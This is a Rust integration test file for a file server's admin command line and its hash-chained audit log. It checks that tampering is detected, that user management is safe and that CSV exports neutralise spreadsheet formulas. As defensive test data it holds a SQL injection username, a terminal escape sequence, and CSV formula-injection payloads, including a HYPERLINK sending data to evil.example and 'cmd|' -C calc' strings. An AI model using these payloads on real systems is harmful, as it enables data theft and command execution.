//! The administration command line, run beside a live server on the same store, and the audit
//! chain: verification catches edits, deletions and truncation made directly in the database.

mod common;

use std::process::Command;

use common::web::Browser;
use common::{ADMIN, ADMIN_PASSWORD, APP, Server, assert_error};
use ferry_testkit::{Backend, on_both_backends};
use serde_json::json;

on_both_backends!(
    users_are_managed_while_the_server_runs,
    bad_cli_input_is_refused_and_changes_nothing,
    audit_verify_detects_an_edited_record,
    audit_verify_detects_a_deleted_record,
    audit_verify_detects_truncation,
    audit_exports_as_jsonl_and_csv,
    a_csv_export_never_hands_a_spreadsheet_a_formula,
    the_cli_writes_while_clients_upload_and_the_chain_stays_whole,
);

/// Runs one SQL statement directly against the server's database, with the engine's own
/// client (Python's sqlite3 module, or psql): the tampering an attacker with database access
/// could do.
fn tamper(s: &Server, statement: &str) {
    let out = if let Some(path) = s.database_url.strip_prefix("sqlite://") {
        Command::new("python3")
            .args(["-c", "import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute(sys.argv[2]); c.commit()"])
            .arg(path)
            .arg(statement)
            .output()
            .unwrap()
    } else {
        Command::new("psql")
            .arg(&s.database_url)
            .args(["-v", "ON_ERROR_STOP=1", "-q", "-c", statement])
            .output()
            .unwrap()
    };
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

fn some_activity(s: &Server) {
    s.add_user("olga", "member", "olga-password");
    for _ in 0..3 {
        s.open("olga", "olga-password", APP);
    }
    let _ = s.call(
        "Open",
        json!({"userName": "olga", "password": "wrong", "applicationID": APP}),
    );
}

fn verify(s: &Server) -> (bool, String) {
    let out = s.ferry(&["audit", "verify"], None);
    (
        out.status.success(),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

fn users_are_managed_while_the_server_runs(backend: Backend) {
    let s = Server::start(backend);
    let id = s.add_user("pat", "manager", "pat-password");
    let list = s.ferry_ok(&["user", "list"], None);
    assert!(list.contains("pat") && list.contains("manager"), "{list}");
    let (old, _) = s.open("pat", "pat-password", APP);
    s.ferry_ok(
        &["user", "passwd", "pat", "--password-stdin"],
        Some("a-new-password\n"),
    );
    assert_error(
        &s.call(
            "Open",
            json!({"userName": "pat", "password": "pat-password", "applicationID": APP}),
        ),
        401,
        102,
    );
    let (_, uid) = s.open("pat", "a-new-password", APP);
    assert_eq!(uid, id);
    assert!(!s.alive(&old), "the new sign-in replaced the old session");
    s.ferry_ok(&["user", "add", "nopw", "--role", "guest"], None);
    assert_error(
        &s.call(
            "Open",
            json!({"userName": "nopw", "password": "", "applicationID": APP}),
        ),
        401,
        102,
    );
    let audit = s.audit();
    for op in ["UserCreated", "PasswordChanged"] {
        let r = audit.iter().find(|r| r["operation"] == op).unwrap();
        assert_eq!(
            r["application_id"], 4,
            "{op} is attributed to the admin CLI"
        );
    }
}

/// A command's records name the account that ran it as the kernel knows it (before, `$USER`
/// was taken at its word, and only records without a detail named anyone).
#[test]
fn the_cli_names_the_account_that_ran_it_not_the_one_user_claims() {
    let s = Server::start(Backend::Sqlite);
    let me = Command::new("id").arg("-un").output().unwrap();
    let me = String::from_utf8(me.stdout).unwrap().trim().to_string();
    assert!(!me.is_empty());
    let ran = |args: &[&str], env: &[(&str, &str)]| {
        let out = s.ferry_env(args, env, &["SUDO_USER"]);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
    };
    ran(
        &["user", "add", "quinn", "--role", "guest"],
        &[("USER", "mallory")],
    );
    ran(
        &["user", "disable", "quinn"],
        &[("USER", "mallory"), ("SUDO_USER", "alice\u{1b}[2J")],
    );
    let audit = s.audit();
    let by_cli: Vec<_> = audit
        .iter()
        .filter(|r| r["application_id"] == 4 && r["target_user_id"].is_i64())
        .collect();
    // The first administrator (made by `ferry serve`), quinn, then quinn disabled.
    assert_eq!(by_cli.len(), 3, "{by_cli:?}");
    assert_eq!(by_cli[0]["path"], ADMIN);
    assert_eq!(by_cli[0]["external_user"], me.as_str(), "{:?}", by_cli[0]);
    assert_eq!(by_cli[1]["external_user"], me.as_str(), "{:?}", by_cli[1]);
    // sudo's claim is kept beside the real account, without its control characters.
    assert_eq!(
        by_cli[2]["external_user"],
        format!("{me} (sudo by alice[2J)").as_str(),
        "{:?}",
        by_cli[2]
    );
    assert!(!audit.iter().any(|r| r.to_string().contains("mallory")));
}

fn bad_cli_input_is_refused_and_changes_nothing(backend: Backend) {
    let s = Server::start(backend);
    s.add_user("quinn", "member", "quinn-password");
    let before = s.ferry_ok(&["user", "list"], None);
    let audit_before = s.audit().len();
    for (args, stdin) in [
        (vec!["user", "add", "quinn", "--role", "member"], None),
        (vec!["user", "add", "QUINN", "--role", "member"], None),
        (vec!["user", "add", "new", "--role", "emperor"], None),
        (vec!["user", "add", "bad/name", "--role", "member"], None),
        (
            vec![
                "user",
                "add",
                "x'; DROP TABLE users; --",
                "--role",
                "member",
            ],
            None,
        ),
        (
            vec![
                "user",
                "add",
                "shortpw",
                "--role",
                "member",
                "--password-stdin",
            ],
            Some("short\n"),
        ),
        (
            vec![
                "user",
                "add",
                "bademail",
                "--role",
                "member",
                "--email",
                "not-an-email",
            ],
            None,
        ),
        (
            vec!["user", "passwd", "nobody", "--password-stdin"],
            Some("long-enough-password\n"),
        ),
        (vec!["user", "disable", "nobody"], None),
        (vec!["app", "add", "42", "reserved"], None),
        (vec!["app", "disable", "5000"], None),
    ] {
        let out = s.ferry(&args, stdin);
        assert!(!out.status.success(), "{args:?} should fail");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.starts_with("ferry: error:"), "{args:?}: {err}");
        assert!(!err.contains("panicked"), "{err}");
    }
    assert_eq!(s.ferry_ok(&["user", "list"], None), before);
    assert_eq!(s.audit().len(), audit_before);
    // A password is never echoed back in an error.
    let out = s.ferry(
        &[
            "user",
            "add",
            "echo",
            "--role",
            "member",
            "--password-stdin",
        ],
        Some("abc\u{1}secretpw\n"),
    );
    assert!(!String::from_utf8_lossy(&out.stderr).contains("secretpw"));
}

fn audit_verify_detects_an_edited_record(backend: Backend) {
    let s = Server::start(backend);
    some_activity(&s);
    let (ok, out) = verify(&s);
    assert!(ok && out.contains("intact"), "{out}");
    tamper(&s, "UPDATE audit_log SET user_id = 999 WHERE seq = 3");
    let (ok, out) = verify(&s);
    assert!(!ok);
    assert!(
        out.contains("BROKEN at record 3") && out.contains("edited"),
        "{out}"
    );
}

fn audit_verify_detects_a_deleted_record(backend: Backend) {
    let s = Server::start(backend);
    some_activity(&s);
    tamper(&s, "DELETE FROM audit_log WHERE seq = 4");
    let (ok, out) = verify(&s);
    assert!(!ok);
    assert!(
        out.contains("BROKEN at record 4") && out.contains("missing"),
        "{out}"
    );
}

fn audit_verify_detects_truncation(backend: Backend) {
    let s = Server::start(backend);
    some_activity(&s);
    let total = s.audit().len();
    tamper(
        &s,
        &format!("DELETE FROM audit_log WHERE seq >= {}", total - 1),
    );
    let (ok, out) = verify(&s);
    assert!(!ok);
    assert!(out.contains("removed from the end"), "{out}");
}

fn audit_exports_as_jsonl_and_csv(backend: Backend) {
    let s = Server::start(backend);
    some_activity(&s);
    let jsonl = s.audit();
    assert!(jsonl.len() >= 6);
    for (i, r) in jsonl.iter().enumerate() {
        assert_eq!(r["seq"], i as i64 + 1);
        assert_eq!(r["hash"].as_str().unwrap().len(), 64);
    }
    let csv = s.ferry_ok(&["audit", "export", "--format", "csv"], None);
    // Parsed by an independent reader: Python's csv module.
    let parsed = read_csv(&csv, "[len(rows), rows[0]['operation'], rows[-1]['hash']]");
    assert_eq!(parsed[0], jsonl.len());
    assert_eq!(parsed[1], jsonl[0]["operation"]);
    assert_eq!(parsed[2], jsonl.last().unwrap()["hash"]);
    let _ = (ADMIN, ADMIN_PASSWORD);
}

/// The CLI is another process writing the same chain: on SQLite it takes the database's write
/// lock while the server's uploads and downloads group their commits (and must then go the
/// waiting way rather than block a runtime thread), on PostgreSQL the head's row lock. Every
/// write of both lands, in one whole chain.
fn the_cli_writes_while_clients_upload_and_the_chain_stays_whole(backend: Backend) {
    const CLIENTS: usize = 6;
    const FILES: usize = 20;
    const USERS: usize = 8;
    let s = Server::start(backend);
    let session = s.open(ADMIN, ADMIN_PASSWORD, APP).0;
    let (_, home) = s.call("GetHomeFolder", json!({"sessionID": session}));
    let home = home["FolderID"].as_i64().unwrap();
    let before = s.audit();
    std::thread::scope(|scope| {
        for c in 0..CLIENTS {
            let (s, session) = (&s, &session);
            scope.spawn(move || {
                for i in 0..FILES {
                    let body = format!("client {c} file {i}");
                    let (status, file) =
                        s.put_file(session, home, &format!("c{c}-{i}.txt"), "", body.as_bytes());
                    assert_eq!(status, 200, "{file}");
                    let path = format!("/api/v1/files/{}/content", file["FileID"]);
                    let (status, _, got) = s.get_bytes(&path, &[("x-session-id", session)]);
                    assert_eq!((status, got), (200, body.into_bytes()));
                }
            });
        }
        scope.spawn(|| {
            for u in 0..USERS {
                s.ferry_ok(
                    &["user", "add", &format!("cli{u}"), "--role", "member"],
                    None,
                );
                s.ferry_ok(&["user", "disable", &format!("cli{u}")], None);
            }
        });
    });
    let audit = s.audit();
    let added = |op: &str| {
        let of =
            |records: &[serde_json::Value]| records.iter().filter(|r| r["operation"] == op).count();
        of(&audit) - of(&before)
    };
    assert_eq!(added("FileUploaded"), CLIENTS * FILES);
    assert_eq!(added("FileDownloaded"), CLIENTS * FILES);
    assert_eq!(
        (added("UserCreated"), added("UserDisabled")),
        (USERS, USERS)
    );
    assert_eq!(
        audit.len(),
        before.len() + 2 * CLIENTS * FILES + 3 * USERS,
        "nothing else was recorded and nothing lost: {:?}",
        audit[before.len()..]
            .iter()
            .map(|r| &r["operation"])
            .collect::<Vec<_>>()
    );
    for (i, r) in audit.iter().enumerate() {
        assert_eq!(r["seq"], i as i64 + 1, "no gap in the sequence");
    }
    let (ok, out) = verify(&s);
    assert!(ok && out.contains("intact"), "{out}");
}

/// What the Python expression `expr` makes of `rows`, Python's csv module's reading of `csv`
/// (an independent reader), as JSON.
fn read_csv(csv: &str, expr: &str) -> serde_json::Value {
    let script = format!(
        "import csv,sys,json; rows=list(csv.DictReader(sys.stdin)); print(json.dumps({expr}))"
    );
    let out = Command::new("python3")
        .args(["-c", &script])
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .and_then(|mut c| {
            use std::io::Write;
            c.stdin.take().unwrap().write_all(csv.as_bytes())?;
            c.wait_with_output()
        })
        .unwrap();
    serde_json::from_slice(&out.stdout).unwrap()
}

/// The `path` cell of every row of `csv` that has one.
fn csv_paths(csv: &str) -> Vec<String> {
    serde_json::from_value(read_csv(csv, "[r['path'] for r in rows if r['path']]")).unwrap()
}

/// File names, details and client versions come from any member, and the administrator opens
/// the CSV export in a spreadsheet, which runs a cell beginning with `=`, `+`, `-` or `@` as a
/// formula (`=HYPERLINK(…)` sends whoever clicks it elsewhere, with the row's data in the
/// address). Before, both CSV exports wrote such names as they were. Now they begin with `'`,
/// which a spreadsheet shows as nothing, and the JSON-lines export keeps them exactly.
fn a_csv_export_never_hands_a_spreadsheet_a_formula(backend: Backend) {
    let s = Server::start(backend);
    s.add_user("olga", "member", "olga-password");
    let (olga, _) = s.open("olga", "olga-password", APP);
    let (_, home) = s.call("GetHomeFolder", json!({"sessionID": olga}));
    let home = home["FolderID"].as_i64().unwrap();
    let hostile = [
        "=HYPERLINK(\"evil.example?q=\"&A1,\"open\")",
        "+1+cmd|' -C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' -C calc'!A0",
        "\u{FF1D}1+1",
    ];
    for name in hostile {
        let (status, body) = s.put_file(&olga, home, name, "", b"x");
        assert_eq!(status, 200, "{name}: {body}");
    }
    let (status, _) = s.put_file(&olga, home, "plain.txt", "", b"x");
    assert_eq!(status, 200);
    let mut expected: Vec<String> = hostile.iter().map(|n| format!("'{n}")).collect();
    expected.push("plain.txt".into());

    let uploads = |csv: &str| {
        let paths = csv_paths(csv);
        paths
            .into_iter()
            .filter(|p| expected.contains(p) || hostile.contains(&p.as_str()))
            .collect::<Vec<_>>()
    };
    let cli = s.ferry_ok(&["audit", "export", "--format", "csv"], None);
    assert_eq!(uploads(&cli), expected, "{cli}");
    let mut root = Browser::new(&s);
    assert_eq!(root.sign_in(ADMIN, ADMIN_PASSWORD).status, 303);
    let console = root.get("/admin/audit/export?format=csv&op=FileUploaded");
    assert_eq!(console.status, 200);
    // The console lists newest first.
    let mut newest_first = expected.clone();
    newest_first.reverse();
    assert_eq!(uploads(&console.body), newest_first, "{}", console.body);

    // The JSON lines, for machines, keep every name exactly.
    let names: Vec<String> = s
        .audit()
        .into_iter()
        .filter(|r| r["operation"] == "FileUploaded")
        .map(|r| r["path"].as_str().unwrap().to_string())
        .collect();
    let mut exact: Vec<String> = hostile.iter().map(|n| n.to_string()).collect();
    exact.push("plain.txt".into());
    assert_eq!(names, exact);
}
